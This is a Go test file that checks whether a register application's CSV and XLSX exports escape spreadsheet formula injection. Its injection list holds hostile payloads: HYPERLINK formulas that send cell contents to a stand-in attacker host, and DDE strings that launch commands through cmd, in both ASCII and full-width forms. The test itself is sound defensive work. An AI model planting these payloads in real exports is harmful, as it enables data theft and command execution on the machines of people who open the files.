package interchange_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"atpreg/internal/interchange"
	"atpreg/internal/register"
)

// injections are values a malicious reply could carry into the register,
// each of which a spreadsheet would run as a formula if written as is.
var injections = []string{
	"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"\t=1+1",
	"＝HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
	"＠SUM(1+1)*cmd|' /C calc'!A0",
	"＋1+cmd|' /C calc'!A0",
	"－2+3+cmd|' /C calc'!A0",
}

// formulaStart reports whether c starts with a character a spreadsheet
// would take as the start of a formula, ASCII or full-width.
func formulaStart(c string) bool {
	r, _ := utf8.DecodeRuneInString(c)
	return c != "" && strings.ContainsRune("=@+-\t＝＠＋－", r)
}

// TestExportsEscapeFormulas writes every kind of text an officer or an
// import can put in the register as a formula and checks that each cell of
// the CSV and of every XLSX sheet holds it escaped (a leading apostrophe).
func TestExportsEscapeFormulas(t *testing.T) {
	for i, inj := range injections {
		e := register.Entity{
			ID: 1, Name: inj, Address: inj, ContactName: inj, ContactPhone: inj, Source: inj, Notes: inj, Tags: []string{inj},
			Submissions: []register.Submission{{ProductName: inj, Composition: inj, TherapeuticIndication: inj, PDFurther: inj, TrainingDetails: inj, Notes: inj}},
		}
		x := interchange.Export{
			Entities:    []register.Entity{e},
			Evaluations: []register.Evaluation{{ID: 1, EntityID: 1, Evaluator: inj, Date: "2025-03-01", Reason: inj}},
			Partners:    []register.Partner{{ID: 1, Name: inj, Facility: inj, Address: inj, Notes: inj}},
			Meetings:    []register.Meeting{{ID: 1, Title: inj, Place: inj, PartnerIDs: []int64{1}, EntityIDs: []int64{1}, Attendees: []string{inj}, Agenda: inj, Minutes: inj, Outcome: inj}},
		}
		cells := map[string][]string{}
		var csvBuf bytes.Buffer
		if err := interchange.WriteCSV(&csvBuf, x.Entities); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(csvBuf.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows[1:] {
			cells["csv"] = append(cells["csv"], r...)
		}
		var xlsx bytes.Buffer
		if err := interchange.WriteXLSX(&xlsx, x); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&xlsx)
		if err != nil {
			t.Fatal(err)
		}
		for _, sh := range f.GetSheetList() {
			rows, err := f.GetRows(sh)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range rows[1:] {
				cells[sh] = append(cells[sh], r...)
			}
		}
		f.Close()
		for where, cs := range cells {
			found := false
			for _, c := range cs {
				if c == "'"+inj {
					found = true
				}
				if formulaStart(c) {
					t.Errorf("injection %d: %s cell %q starts like a formula", i, where, c)
				}
			}
			if !found {
				t.Errorf("injection %d: %s holds no escaped copy of %q", i, where, inj)
			}
		}
	}
}
